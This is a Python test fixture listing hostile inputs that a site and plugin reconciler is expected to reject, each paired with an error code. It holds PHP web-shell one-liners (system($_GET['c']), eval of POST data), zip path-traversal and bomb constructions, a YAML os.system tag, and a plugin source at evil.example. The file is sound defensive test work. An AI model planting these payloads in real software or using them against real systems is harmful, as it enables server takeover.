"""What somebody could hand in, and the code that refuses it: the one table of the hostile corpus.

The numbers are those of the list that the table was made from. Site files come as sites/garden.json,
YAML as plugins-allowlist.yaml, packages in a good archive. REVIEWED are proposals as a whole: each is
carried out by the test or the case that is named, and says these words there.
"""

import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from hostile_archives import (
    GOOD,
    PHP,
    cut,
    encrypted,
    many_entries,
    overlapping,
    patched,
    two_ends,
    zipped,
)

from reconciler.core.archive import ArchiveCode
from reconciler.core.blob import Blob

BASE = Path(__file__).parents[1] / "cases" / "base"

GARDEN = """{"name": "garden", "title": "Garden club", "owners": ["amira"],
 "domains": {"primary": "garden.example"}, "replicas": 2}"""


def site(
    old: str, new: str, path: str = "sites/garden.json", mode: str = "100644"
) -> Callable[[], Blob]:
    """A site file that is good but for one place."""
    assert old in GARDEN
    return lambda: Blob(path, mode, GARDEN.replace(old, new).encode("utf-8", "surrogateescape"))


def domain(name: str) -> Callable[[], Blob]:
    return site("garden.example", name)


def raw(data: bytes, mode: str = "100644") -> Callable[[], Blob]:
    return lambda: Blob("sites/garden.json", mode, data)


SITES: list[tuple[str, Callable[[], Blob], str]] = [
    ("01 owners twice", site('"owners"', '"owners": ["mallory"], "owners"'), "duplicate-key"),
    ("02 a key twice, once escaped", site('"title"', '"na\\u006de": "tea-house", "title"'),
     "duplicate-key"),
    ("03 NaN", site("2}", "NaN}"), "number-not-allowed"),
    ("03 beyond all numbers", site("2}", "1e999}"), "number-not-allowed"),
    ("04 5,000 digits", site("2}", "2" * 5_000 + "}"), "number-not-allowed"),
    ("05 a float for an integer", site("2}", "2.0}"), "wrong-type"),
    ("06 30,000 deep", raw(b"[" * 30_000), "too-deep"),
    ("06 100,000 deep", raw(b"[" * 100_000), "file-too-large"),
    ("07 BOM", site("{\"name", "\ufeff{\"name"), "encoding"),
    ("07 UTF-16", raw(GARDEN.encode("utf-16")), "encoding"),
    ("08 half of a pair", site("Garden club", "\\ud800"), "encoding"),
    ("09 right to left", site("Garden club", "Garden \u202ebulc"), "control-character"),
    ("09 no width", site("Garden club", "Gar\u200bden"), "control-character"),
    ("10 a line end behind the name", site('"garden"', '"garden\\n"'), "control-character"),
    ("15 Cyrillic", domain("xn--pple-43d.com"), "domain-confusable"),
    ("15 Greek", domain("g\u03bfogle.com"), "domain-syntax"),
    ("16 a soft hyphen", domain("gar\\u00adden.com"), "control-character"),
    ("17 wide digits", domain("garden\uff11.com"), "domain-syntax"),
    ("18 an address in hexadecimal", domain("0x7f.1"), "domain-syntax"),
    ("18 an address cut short", domain("127.1"), "domain-syntax"),
    ("19 a neighbour's domain with a dot", domain("chess.example."), "domain-syntax"),
    ("20 www of a neighbour", domain("www.chess.example"), "domain-taken"),
    ("22 a link to /etc/passwd", raw(b"/etc/passwd", "120000"), "file-kind"),
    ("22 a repository in it", raw(b"", "160000"), "file-kind"),
    ("23 a twin in another case", site("garden", "Garden", "sites/Chess-club.json"), "file-name"),
    ("24 32 MB of title", site("Garden club", "x" * 32 * 1024 * 1024), "file-too-large"),
]  # fmt: skip

REVIEWED: list[tuple[str, str, str]] = [
    ("11 an owner writes himself in", "cases/review/owner-swap.case", ": not-an-owner: "),
    ("12 a rename takes a site", "cases/review/renamed-site.case", ": site-renamed: "),
    ("13 another's site removed", "cases/review/deletes-another.case", ": removes-anothers-site: "),
    ("14 files beyond the list", "cases/review/too-many.case", "counts 3 changed files"),
    ("25 markup in titles and names", "cases/review/hostile-words.case", ": file-name: "),
    ("41 a proposal rewrites CODEOWNERS", "cases/review/codeowners.case", "then two of you approve"),
    ("41 and the rules of the comment", "shell/test_review_comment.py",
     "test_who_changes_the_rules_is_not_reviewed_by_them"),
    ("42 words of strangers in a step", "repo/test_workflows.py",
     "test_a_step_is_a_pinned_action_or_words_that_nobody_else_wrote"),
    ("43 two proposals, one domain", "cases/review/taken-domain.case", ": domain-taken at "),
    ("44 a report of another proposal", "shell/test_review_comment.py",
     "test_a_report_of_another_commit_is_not_told"),
    ("45 pushed while it was looked at", "shell/test_review_comment.py",
     "test_a_run_whose_pull_request_has_gone_on_says_nothing"),
]  # fmt: skip

ARCHIVES: list[tuple[str, Callable[[], bytes], ArchiveCode]] = [
    ("33 slip", lambda: zipped(("notice/../../x", PHP)), "archive-path-escape"),
    ("33 slip at once", lambda: zipped(("../x", PHP)), "archive-path-escape"),
    ("33 absolute", lambda: zipped(("/etc/cron.d/x", PHP)), "archive-path-escape"),
    ("33 drive", lambda: zipped(("C:/x", PHP)), "archive-path-escape"),
    ("33 backslash", lambda: zipped(("notice\\..\\x", PHP)), "archive-path-escape"),
    ("33 NUL name", lambda: patched(zipped(("notice/a.phpX.png", PHP)), b"phpX", b"php\0"),
     "archive-path-escape"),
    ("33 line end in name", lambda: zipped(("notice/a\n.php", PHP)), "archive-path-escape"),
    ("33 right to left", lambda: zipped(("notice/\u202egnp.php", PHP)), "archive-path-escape"),
    ("33 long name", lambda: zipped(("notice/" + "a" * 250, PHP)), "archive-path-escape"),
    ("33 name of odd bytes", lambda: patched(zipped(("notice/aXX.php", PHP)), b"aXX", b"a\xff\xfe"),
     "archive-path-escape"),
    ("34 symlink, then a write through it",
     lambda: zipped(("notice/up", b"../..", 0o120777), ("notice/up/x.php", PHP)), "archive-link"),
    ("34 device", lambda: zipped(("notice/null", b"", stat.S_IFCHR | 0o666)), "archive-link"),
    ("34 pipe", lambda: zipped(("notice/pipe", b"", stat.S_IFIFO | 0o666)), "archive-link"),
    ("34 setuid", lambda: zipped(("notice/run", PHP, 0o104755)), "archive-link"),
    ("35 zeros", lambda: zipped(("notice/x", bytes(50_000_000))), "archive-bomb"),
    ("35 zeros that claim to be few",
     lambda: patched(zipped(("notice/x", bytes(50_000_000))), struct.pack("<L", 50_000_000),
                     struct.pack("<L", 10)), "archive-bomb"),
    ("35 overlap", overlapping, "archive-bomb"),
    ("35 65,536 entries", many_entries, "archive-bomb"),
    ("35 a size beyond reason",
     lambda: patched(zipped(("notice/x", PHP)), struct.pack("<LL", len(PHP), 0)[:4] + b"\x08",
                     b"\xff\xff\xff\x7f\x08"), "archive-bomb"),
    ("36 PHP before the zip", lambda: PHP + GOOD, "archive-polyglot"),
    ("36 PHP before the zip, offsets mended", lambda: two_ends("before"), "archive-polyglot"),
    ("36 PHP after the zip", lambda: GOOD + PHP, "archive-polyglot"),
    ("36 two end records", lambda: two_ends("comment"), "archive-polyglot"),
    ("36 two zips", lambda: GOOD + zipped(("notice/notice.php", b"<?php // evil")), "archive-polyglot"),
    ("36 a hidden entry between two", lambda: two_ends("between"), "archive-polyglot"),
    ("37 clean first, evil last",
     lambda: zipped(("notice/a.php", PHP), ("notice/a.php", b"<?php // evil")),
     "archive-duplicate-name"),
    ("37 other case", lambda: zipped(("notice/A.php", PHP), ("notice/a.php", PHP)),
     "archive-duplicate-name"),
    ("37 other Unicode form",
     lambda: zipped(("notice/\u00e9.php", PHP), ("notice/e\u0301.php", PHP)), "archive-duplicate-name"),
    ("37 a file below a file", lambda: zipped(("notice/a", PHP), ("notice/a/b.php", PHP)),
     "archive-duplicate-name"),
    ("more: two names", lambda: zipped(("notice/good.php", PHP)).replace(b"good", b"evil", 1),
     "archive-contradiction"),
    ("more: two methods", lambda: patched(zipped(("notice/x", PHP)), b"PK\3\4\x14\0\0\0\x08",
                                      b"PK\3\4\x14\0\0\0\x00"), "archive-contradiction"),
    ("more: two digests", lambda: GOOD[:14] + b"\0\0\0\0" + GOOD[18:], "archive-contradiction"),
    ("more: encrypted entry", lambda: encrypted(1), "archive-encrypted"),
    ("more: encrypted directory", lambda: encrypted(0x2000), "archive-encrypted"),
    ("more: another folder", lambda: zipped(("notice/a.php", PHP), ("akismet/akismet.php", PHP)),
     "archive-top-folder"),
    ("more: no folder", lambda: zipped(("notice.php", PHP)), "archive-top-folder"),
    ("more: cut short", lambda: cut(GOOD), "archive-unreadable"),
    ("more: split", lambda: GOOD[:-18] + b"\1\0" + GOOD[-16:], "archive-unreadable"),
    ("more: no zip", lambda: b"<html>not found</html>", "archive-unreadable"),
    ("more: nothing", lambda: b"PK\5\6" + bytes(18), "archive-unreadable"),
    ("more: odd packing", lambda: zipped(("notice/x", PHP * 90), method=zipfile.ZIP_BZIP2),
     "archive-unreadable"),
    ("more: damaged", lambda: patched(zipped(("notice/x", b"\0" * 999)), b"\x63\x60", b"\xff\xff"),
     "archive-unreadable"),
]  # fmt: skip

ENTRY = (BASE / "plugins-allowlist.yaml").read_text("utf-8").split("  - slug: old-popup")[0]
BOMB = "".join(
    f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" if n else "l0: &l0 [x, x, x, x, x]\n"
    for n in range(10)
)
YAML: list[tuple[str, Callable[[], str], str]] = [
    ("26 an unquoted version", lambda: ENTRY.replace('"1.0.0"', "3.10"), "unquoted-scalar"),
    ("27 the Norway problem", lambda: ENTRY.replace("site-notice", "no", 1), "unquoted-scalar"),
    ("27 base 60", lambda: ENTRY.replace('"1.0.0"', "1:20"), "unquoted-scalar"),
    ("27 octal", lambda: ENTRY.replace('"1.0.0"', "010"), "unquoted-scalar"),
    ("28 a digest twice", lambda: ENTRY + '    tree_sha256: "' + "0" * 64 + '"\n', "duplicate-key"),
    ("29 alias bomb", lambda: BOMB, "yaml-feature"),
    ("30 Python tag", lambda: "packages: !!python/object/apply:os.system ['x']\n", "yaml-feature"),
    ("30 merge key", lambda: "packages:\n  - <<: {slug: x}\n", "yaml-feature"),
    ("30 second document", lambda: ENTRY + "---\npackages: []\n", "yaml-feature"),
    ("30 directive", lambda: "%YAML 1.1\n---\npackages: []\n", "yaml-feature"),
    ("31 no reviewer", lambda: ENTRY.replace("[kim]", "[]"), "out-of-range"),
    ("31 one reviewer as two", lambda: ENTRY.replace("[kim]", "[kim, kim]"), "repeated-item"),
    ("32 an end in 2099", lambda: ENTRY + '    until: "2099-01-01"\n', "out-of-range"),
    ("32 an end that is no day", lambda: ENTRY + '    until: "2026-13-01"\n', "wrong-form"),
    ("32 an address as source",
     lambda: ENTRY.replace("{path: image/plugins/site-notice}", '{url: "http://evil.example/x.zip"}'),
     "unknown-field"),
]  # fmt: skip

MAIN = b"<?php\n/*\n * Plugin Name: Notice\n * Version: 1.2\n * License: GPL-2.0-or-later\n */\n"
BROKEN = b"<?php class { function } ( EvAl($_POST['x']); ]]"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(20)
PACKAGES: list[tuple[str, dict[str, bytes], str]] = [
    ("38 PHP in a picture", {"logo.png": PNG + b"<?php system($_GET['c']);"}, "php-in-disguise"),
    ("38 the picture included",
     {"logo.png": PNG + b"<?= 1;", "x.php": b"<?php include __DIR__ . '/logo.png';"},
     "include-from-outside"),
    ("38 .user.ini", {".user.ini": b"auto_prepend_file=logo.png\n"}, "server-settings"),
    ("39 a parser-breaker", {"x.php": BROKEN}, "php-unreadable"),
    ("39 eval behind a parser-breaker", {"x.php": BROKEN}, "php-eval"),
    ("39 eval in another case", {"x.php": b"<?php EvAl($_POST['x']);"}, "php-eval"),
    ("40 a name in parts", {"x.php": b"<?php ('ex'.'ec')($_GET['c']);"}, "hidden-callback"),
    ("40 a callback by name", {"x.php": b"<?php array_map('assert', $_POST);"}, "hidden-callback"),
    ("40 a variable variable", {"x.php": b"<?php $v = 'f'; $f = $_GET['f']; $$v('x');"},
     "tainted-call"),
    ("40 unserialize of an answer", {"x.php": b"<?php $r = wp_remote_get('https://a.example/x');"
     b" unserialize(wp_remote_retrieve_body($r));"}, "unserialize-outside"),
]  # fmt: skip
